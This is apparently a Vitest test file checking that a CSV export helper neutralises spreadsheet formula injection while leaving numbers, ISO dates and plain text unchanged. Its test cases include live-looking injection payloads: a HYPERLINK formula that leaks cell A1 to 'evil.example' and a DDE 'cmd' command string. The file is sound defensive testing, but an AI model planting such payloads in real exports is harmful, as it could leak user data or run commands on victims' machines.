import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from './csv';

describe('csvCell: a spreadsheet never reads a cell the product writes as a formula', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`,
    ],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ['+1+cmd', `'+1+cmd`],
    ['-2+3', `'-2+3`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
    ['=1', `'=1`],
    ['-', `'-`],
    ['+', `'+`],
  ])('prefixes a quote to %j', (text, written) => {
    expect(csvCell(text)).toBe(written);
  });

  it.each([
    '-12.50',
    '+7',
    '-0.05',
    '12',
    '1.500',
    '-.5',
    '2026-01-08T09:30:00.000Z',
    '-002026-01-08',
    '+002026-01-08T09:30:00Z',
  ])('leaves a number or an ISO time as it is: %j', (text) => {
    expect(csvCell(text)).toBe(text);
  });

  it('leaves ordinary text alone and quotes it by RFC 4180 only when it must', () => {
    expect(csvCell('OP-CHG-88120931')).toBe('OP-CHG-88120931');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(' =not a formula')).toBe(' =not a formula');
    expect(csvCell('A=B')).toBe('A=B');
    expect(csvCell(12)).toBe('12');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('joins a row of safe cells', () => {
    expect(csvRow(['missing_here', 3, '=1+1', null, '-12.50'])).toBe(`missing_here,3,'=1+1,,-12.50`);
  });
});
